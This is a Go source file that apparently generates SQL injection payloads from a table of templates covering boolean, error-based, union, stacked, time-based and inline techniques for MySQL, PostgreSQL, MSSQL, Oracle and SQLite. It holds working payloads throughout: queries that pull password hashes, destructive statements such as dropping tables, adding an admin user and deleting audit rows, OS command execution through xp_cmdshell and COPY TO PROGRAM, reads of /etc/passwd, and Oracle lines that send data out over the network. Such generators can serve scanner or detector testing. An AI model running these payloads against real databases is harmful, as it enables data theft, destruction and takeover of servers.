package battery

import (
	"fmt"
	"strings"
)

// vector is a template of what is asked of the database. In braces stand the
// parts that fill draws:
//
//	{n} {m}    two numbers          {k}      a small number
//	{w}        a name               {s}      seconds
//	{mark}     a string literal     {what}   a query for something worth having
//	{cond}     a condition          {table}  a system table
//	{cols}     a list of columns    {dual}   FROM DUAL, where it is needed
type vector string

// anyDatabase holds vectors that all databases take.
const anyDatabase Database = ""

// vectors is the list, by technique and database.
var vectors = map[Technique]map[Database][]vector{
	Boolean: {
		anyDatabase: {
			"AND {cond}", "OR {cond}", "OR NOT {cond}", "AND NOT ({cond})",
			"AND {n} IN (SELECT (CASE WHEN ({cond}) THEN {n} ELSE {m} END){dual})",
			"AND (SELECT COUNT(*) FROM {table})>{k}",
			"OR EXISTS(SELECT {n} FROM {table} WHERE {cond})",
			"AND {n}=(SELECT (CASE WHEN ({cond}) THEN {n} ELSE (SELECT {m}{dual} UNION SELECT {n}{dual}) END){dual})",
		},
		MySQL: {
			"RLIKE (SELECT (CASE WHEN ({cond}) THEN {n} ELSE 0x5b END))", "AND MAKE_SET({cond},{n})", "OR ELT({cond},{n})",
			"AND ORD(MID(({what}),{k},1))>{m}", "XOR {cond}", "AND {n}=IF(({cond}),{n},{m})", "&& {cond}", "|| {cond}",
			"AND ({what}) REGEXP '^[a-m]'",
		},
		PostgreSQL: {
			"AND (SELECT (CASE WHEN ({cond}) THEN NULL ELSE CAST({mark} AS NUMERIC) END)) IS NULL",
			"AND ASCII(SUBSTRING(({what})::text FROM {k} FOR 1))>{m}", "AND ({what})::text ~ '^[a-m]'", "AND ({what})::text SIMILAR TO '[a-m]%'",
		},
		MSSQL: {
			"AND UNICODE(SUBSTRING(({what}),{k},1))>{m}", "AND IS_SRVROLEMEMBER('sysadmin')=1",
			"AND (SELECT (CASE WHEN ({cond}) THEN 1 ELSE {n}*(SELECT {n} UNION ALL SELECT {m}) END))=1", "AND LEN(({what}))>{k}",
		},
		Oracle: {
			"AND ASCII(SUBSTR(({what}),{k},1))>{m}", "AND (SELECT (CASE WHEN ({cond}) THEN {n} ELSE TO_NUMBER({mark}) END) FROM DUAL)={n}",
			"AND LENGTH(({what}))>{k}", "AND NVL(TO_CHAR(({what})),CHR(32)) LIKE 'A%'",
		},
		SQLite: {
			"AND UNICODE(SUBSTR(({what}),{k},1))>{m}", "AND CASE WHEN {cond} THEN {n} ELSE JSON({mark}) END", "AND ({what}) GLOB '[a-m]*'",
			"AND INSTR(({what}),{mark})>0", "AND LENGTH(({what}))>{k}",
		},
	},
	Error: {
		MySQL: {
			"AND EXTRACTVALUE({n},CONCAT(0x7e,{mark},({what})))", "OR UPDATEXML({n},CONCAT(0x7e,({what}),{mark}),{m})",
			"AND (SELECT {n} FROM (SELECT COUNT(*),CONCAT({mark},({what}),FLOOR(RAND(0)*2)) x FROM {table} GROUP BY x) {w})",
			"AND EXP(~(SELECT * FROM (SELECT CONCAT({mark},({what}))) {w}))", "AND GTID_SUBSET(CONCAT({mark},({what})),{n})",
			"AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT({mark},({what}))) USING utf8)))", "AND ROW({n},{m})>(SELECT COUNT(*),CONCAT({mark},FLOOR(RAND(0)*2)) x FROM {table} GROUP BY x)",
		},
		PostgreSQL: {
			"AND {n}=CAST({mark}||({what})::text AS NUMERIC)", "OR {n}=CAST(({what}) AS INT)", "AND {n}=(SELECT {n}/(CASE WHEN ({cond}) THEN 0 ELSE 1 END))",
			"AND {n}=(({mark}||({what}))::date IS NULL)::int", "AND (SELECT QUERY_TO_XML({mark},TRUE,TRUE,'')) IS NULL",
		},
		MSSQL: {
			"AND {n}=CONVERT(INT,({what}))", "OR {n} IN (SELECT ({mark}+({what})))", "AND {n}=CONVERT(INT,{mark}+CAST(({what}) AS VARCHAR(40)))",
			"AND {n}/(CASE WHEN ({cond}) THEN 0 ELSE 1 END)={m}", "AND {n}=FILE_ID({mark}+({what}))+CAST(@@VERSION AS INT)", "HAVING {cond}",
		},
		Oracle: {
			"AND {n}=CTXSYS.DRITHSX.SN({n},({what}))", "OR {n}=UTL_INADDR.GET_HOST_ADDRESS({mark}||({what}))",
			"AND {n}=(SELECT UPPER(XMLTYPE(CHR(60)||CHR(58)||{mark}||({what})||CHR(62))) FROM DUAL)", "AND {n}=DBMS_UTILITY.SQLID_TO_SQLHASH(({mark}||({what})))",
			"AND (SELECT {n}/(CASE WHEN ({cond}) THEN 0 ELSE 1 END) FROM DUAL)={m}", "AND DBMS_XDB_VERSION.CHECKIN(({what})) IS NOT NULL",
		},
		SQLite: {
			"AND {n}=JSON({mark}||({what}))", "OR {n}=LOAD_EXTENSION({mark}||({what}))", "AND ABS(CASE WHEN {cond} THEN -9223372036854775807-1 ELSE {n} END)",
			"AND JSON_EXTRACT('[]',{mark}||({what})) IS NULL", "AND {n}=LENGTH(ZEROBLOB(CASE WHEN {cond} THEN 1 ELSE 99999999999 END))",
		},
	},
	Union: {
		anyDatabase: {
			"UNION ALL SELECT {cols}{dual}", "UNION SELECT {cols}{dual}", "UNION ALL SELECT {cols} FROM {table}", "ORDER BY {k}",
			"AND {n}={m} UNION ALL SELECT {cols}{dual}", "UNION ALL SELECT {cols} FROM {table} WHERE {cond}",
		},
		MySQL: {
			"UNION DISTINCT SELECT {cols}", "UNION (SELECT {cols})", "LIMIT 0,1 INTO OUTFILE '/tmp/{w}' LINES TERMINATED BY 0x{n}",
			"UNION ALL SELECT {cols} INTO DUMPFILE '/tmp/{w}'", "PROCEDURE ANALYSE({n},{m})",
		},
		PostgreSQL: {"UNION VALUES ({cols})", "EXCEPT SELECT {cols}", "UNION ALL TABLE {table}"},
		MSSQL:      {"UNION ALL SELECT TOP 1 {cols} FROM {table}", "EXCEPT SELECT {cols}", "GROUP BY {w} HAVING {cond}"},
		Oracle:     {"UNION ALL SELECT {cols} FROM {table} WHERE ROWNUM={k}", "MINUS SELECT {cols} FROM DUAL", "INTERSECT SELECT {cols} FROM DUAL"},
		SQLite:     {"UNION VALUES({cols})", "EXCEPT SELECT {cols}", "UNION SELECT {cols} FROM PRAGMA_TABLE_INFO({mark})"},
	},
	Stacked: {
		anyDatabase: {
			";DROP TABLE orders", ";UPDATE users SET password={mark} WHERE {cond}", ";INSERT INTO users(name,role) VALUES({mark},'admin')",
			";DELETE FROM audit WHERE {cond}", ";SELECT (CASE WHEN ({cond}) THEN {n} ELSE {m} END){dual}",
		},
		MySQL: {
			";SELECT SLEEP({s})", ";SELECT IF(({cond}),SLEEP({s}),{n})", ";SET @{w}=CONCAT({mark},{mark});PREPARE {w} FROM @{w};EXECUTE {w}",
			";(SELECT * FROM (SELECT(SLEEP({s}))){w})", ";HANDLER users OPEN;HANDLER users READ FIRST",
		},
		PostgreSQL: {
			";SELECT PG_SLEEP({s})", ";COPY (SELECT {mark}) TO PROGRAM 'id'", ";CREATE TABLE {w}(a text)", ";SELECT (CASE WHEN ({cond}) THEN (SELECT {n} FROM PG_SLEEP({s})) ELSE {m} END)",
			";COPY {w} FROM '/etc/passwd'", ";SELECT LO_IMPORT('/etc/passwd')",
		},
		MSSQL: {
			";WAITFOR DELAY '0:0:{s}'", ";EXEC master..xp_cmdshell 'whoami'", ";IF({cond}) WAITFOR DELAY '0:0:{s}'", ";DECLARE @{w} VARCHAR(99);SET @{w}={mark};EXEC(@{w})",
			";SHUTDOWN", ";EXEC sp_configure 'show advanced options',1;RECONFIGURE",
		},
		Oracle: {
			";BEGIN DBMS_LOCK.SLEEP({s});END;", ";SELECT DBMS_PIPE.RECEIVE_MESSAGE({mark},{s}) FROM DUAL", ";BEGIN EXECUTE IMMEDIATE {mark};END;",
			";SELECT UTL_HTTP.REQUEST({mark}||({what})) FROM DUAL", ";BEGIN IF ({cond}) THEN DBMS_LOCK.SLEEP({s});END IF;END;",
		},
		SQLite: {
			";SELECT HEX(RANDOMBLOB({s}00000000))", ";ATTACH DATABASE '/tmp/{w}.db' AS {w};CREATE TABLE {w}.p(c)", ";PRAGMA writable_schema={k}",
			";SELECT LOAD_EXTENSION({mark})", ";UPDATE orders SET name=({what})",
		},
	},
	Time: {
		MySQL: {
			"AND SLEEP({s})", "OR SLEEP({s})", "AND (SELECT {n} FROM (SELECT(SLEEP({s}))){w})", "OR IF(({cond}),SLEEP({s}),{n})", "AND {n}=BENCHMARK({s}000000,MD5({mark}))",
			"RLIKE SLEEP({s})", "AND ELT({cond},SLEEP({s}))", "AND IF(ORD(MID(({what}),{k},1))>{m},SLEEP({s}),0)",
		},
		PostgreSQL: {
			"AND {n}=(SELECT {n} FROM PG_SLEEP({s}))", "OR {n}=(CASE WHEN ({cond}) THEN (SELECT {n} FROM PG_SLEEP({s})) ELSE {m} END)",
			"AND {n}=(SELECT COUNT(*) FROM GENERATE_SERIES(1,{s}000000))", "AND (SELECT PG_SLEEP({s})) IS NULL", "AND PG_SLEEP({s})::text=''",
		},
		MSSQL: {
			"WAITFOR DELAY '0:0:{s}'", "IF({cond}) WAITFOR DELAY '0:0:{s}'", "AND {n}=(SELECT COUNT(*) FROM sysusers AS a,sysusers AS b,sysusers AS c,sysusers AS d)",
			"OR {n}=(CASE WHEN ({cond}) THEN (SELECT COUNT(*) FROM sysobjects AS a,sysobjects AS b,sysobjects AS c) ELSE {n} END)",
		},
		Oracle: {
			"AND {n}=DBMS_PIPE.RECEIVE_MESSAGE({mark},{s})", "OR {n}=(CASE WHEN ({cond}) THEN DBMS_PIPE.RECEIVE_MESSAGE({mark},{s}) ELSE {n} END)",
			"AND {n}=(SELECT COUNT(*) FROM ALL_OBJECTS A,ALL_OBJECTS B,ALL_OBJECTS C)", "AND (SELECT COUNT(*) FROM ALL_USERS A,ALL_USERS B,ALL_USERS C,ALL_USERS D)>{k}",
		},
		SQLite: {
			"AND {n}=LENGTH(HEX(RANDOMBLOB({s}00000000)))", "OR {n}=(CASE WHEN {cond} THEN UPPER(HEX(RANDOMBLOB({s}00000000/2))) ELSE {m} END)",
			"AND {n}=(SELECT COUNT(*) FROM sqlite_master a,sqlite_master b,sqlite_master c,sqlite_master d)",
			"AND {n}<(WITH RECURSIVE {w}(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM {w} LIMIT {s}0000000) SELECT COUNT(*) FROM {w})",
			"AND GLOB('*',HEX(RANDOMBLOB({s}00000000)))",
		},
	},
	Inline: {
		anyDatabase: {
			"(SELECT (CASE WHEN ({cond}) THEN {n} ELSE {m} END){dual})", "({what})", "(CASE WHEN {cond} THEN {n} ELSE (SELECT {n}{dual} UNION SELECT {m}{dual}) END)",
			"(SELECT COUNT(*) FROM {table} WHERE {cond})",
		},
		MySQL: {
			"(SELECT CONCAT({mark},({what})))", "IF(({cond}),{n},SLEEP({s}))", "MAKE_SET({cond},{n})", "(SELECT * FROM (SELECT(SLEEP({s}))){w})",
			"EXTRACTVALUE({n},CONCAT(0x7e,({what})))",
		},
		PostgreSQL: {"(SELECT {mark}||({what})::text)", "(SELECT {n} FROM PG_SLEEP({s}))", "CAST({mark}||({what})::text AS NUMERIC)"},
		MSSQL:      {"(SELECT {mark}+({what}))", "CONVERT(INT,({what}))", "(SELECT {n}/(CASE WHEN ({cond}) THEN 1 ELSE 0 END))"},
		Oracle:     {"(SELECT {mark}||({what}) FROM DUAL)", "UTL_INADDR.GET_HOST_NAME(({what}))", "DBMS_PIPE.RECEIVE_MESSAGE({mark},{s})"},
		SQLite:     {"(SELECT {mark}||({what}))", "LOAD_EXTENSION({mark})", "(SELECT HEX(RANDOMBLOB({s}00000000)))", "JSON({mark}||({what}))"},
	},
}

func vectorsOf(t Technique, db Database) []vector {
	own, shared := vectors[t][db], vectors[t][anyDatabase]
	return append(append(make([]vector, 0, len(own)+len(shared)), shared...), own...)
}

// wanted are queries for what an attacker looks for first.
var wanted = map[Database][]string{
	MySQL: {"SELECT VERSION()", "SELECT CURRENT_USER()", "SELECT DATABASE()", "SELECT table_name FROM information_schema.tables LIMIT {k},1",
		"SELECT password FROM users LIMIT 1"},
	PostgreSQL: {"SELECT VERSION()", "SELECT CURRENT_USER", "SELECT passwd FROM pg_shadow LIMIT 1", "SELECT relname FROM pg_class LIMIT 1 OFFSET {k}",
		"SELECT CURRENT_DATABASE()"},
	MSSQL: {"SELECT @@VERSION", "SELECT SYSTEM_USER", "SELECT DB_NAME()", "SELECT TOP 1 name FROM sysobjects WHERE xtype='U'", "SELECT TOP 1 password FROM users"},
	Oracle: {"SELECT USER FROM DUAL", "SELECT banner FROM v$version WHERE ROWNUM=1", "SELECT table_name FROM all_tables WHERE ROWNUM=1",
		"SELECT global_name FROM global_name", "SELECT password FROM users WHERE ROWNUM=1"},
	SQLite: {"SELECT SQLITE_VERSION()", "SELECT sql FROM sqlite_master LIMIT 1", "SELECT GROUP_CONCAT(tbl_name) FROM sqlite_master",
		"SELECT password FROM users LIMIT 1 OFFSET {k}"},
}

var tables = map[Database]string{
	MySQL: "information_schema.tables", PostgreSQL: "pg_catalog.pg_tables", MSSQL: "sysobjects", Oracle: "all_tables", SQLite: "sqlite_master",
}

// fill draws the parts of v.
func (d *dice) fill(v vector, db Database, s style) string {
	n, m, k := d.number(), d.number(), fmt.Sprint(1+d.below(12))
	condition := s.condition(n, n)
	if d.below(3) == 0 {
		condition = s.condition(n, m)
	}
	dual := ""
	if db == Oracle {
		dual = " FROM DUAL"
	}
	what := strings.ReplaceAll(pick(d, wanted[db]), "{k}", k)
	mark := s.text("q" + strings.ToLower(d.word()) + "q")
	return strings.NewReplacer(
		"{n}", n, "{m}", m, "{k}", k, "{w}", d.word(), "{s}", fmt.Sprint(1+d.below(9)),
		"{mark}", mark, "{what}", what, "{cond}", condition, "{table}", tables[db],
		"{cols}", d.columns(mark, what), "{dual}", dual,
	).Replace(string(v))
}

// columns draws a list of 1 to 10 columns, one of which carries the answer.
func (d *dice) columns(mark, what string) string {
	blank := pick(d, []string{"NULL", "NULL", d.number()})
	list := make([]string, 1+d.below(10))
	for i := range list {
		list[i] = blank
	}
	list[d.below(len(list))] = pick(d, []string{mark, "(" + what + ")", blank})
	return strings.Join(list, ",")
}
